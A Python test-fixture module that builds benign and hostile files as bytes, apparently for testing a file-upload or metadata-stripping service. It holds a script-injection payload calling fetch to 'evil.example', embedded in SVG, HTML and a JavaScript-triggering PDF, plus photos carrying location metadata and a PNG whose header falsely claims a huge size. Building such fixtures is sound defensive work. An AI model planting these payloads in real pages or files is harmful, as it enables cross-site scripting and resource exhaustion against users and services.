"""Files for tests: honest ones and hostile ones, as bytes."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from typing import Any

from PIL import Image, ImageCms

SCRIPT = b"<script>document.title='owned';fetch('https://evil.example/')</script>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
HTML = b"<!doctype html><html>" + SCRIPT + b"</html>"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + SCRIPT + b"\n%%EOF\n"
PLACE = "Shanghai 31.2304 N 121.4737 E"


def picture(
    kind: str = "PNG", size: tuple[int, int] = (80, 60), colour: Any = (200, 30, 30), **options: Any
) -> bytes:
    mode = "RGBA" if len(colour) == 4 else "RGB"
    into = BytesIO()
    Image.new(mode, size, colour).save(into, kind, **options)
    return into.getvalue()


def photo_with_place() -> bytes:
    """A JPEG as a phone writes it: lying on its side, with a place, a maker, a comment and a colour profile."""
    picture = Image.new("RGB", (80, 60), (200, 30, 30))
    picture.paste((30, 30, 200), (0, 0, 40, 60))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    exif[0x010E] = PLACE
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    into = BytesIO()
    picture.save(into, "JPEG", exif=exif, comment=PLACE.encode(), icc_profile=profile)
    return into.getvalue()


def photo_with_index() -> bytes:
    """A JPEG as newer phones write it: an index of pictures (CIPA DC-007), and a second one behind the first."""
    picture, second = Image.new("RGB", (80, 60), (200, 30, 30)), Image.new("RGB", (40, 30), (30, 30, 200))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = PLACE
    into = BytesIO()
    picture.save(into, "MPO", save_all=True, append_images=[second], exif=exif)
    return into.getvalue()


def png_of(width: int, height: int, pixels: bytes = b"") -> bytes:
    """A PNG that says it is so large, whatever it holds."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(pixels)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def box(kind: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(content)) + kind + content


def video() -> bytes:
    """An MP4 in outline: its boxes are right, its frames are none. It tells where it was taken, twice."""
    place = box(b"\xa9xyz", PLACE.encode())
    moov = box(b"mvhd", bytes(100)) + box(b"udta", place) + box(b"trak", box(b"meta", PLACE.encode()))
    return box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41") + box(b"moov", moov) + box(b"mdat", bytes(2_000))
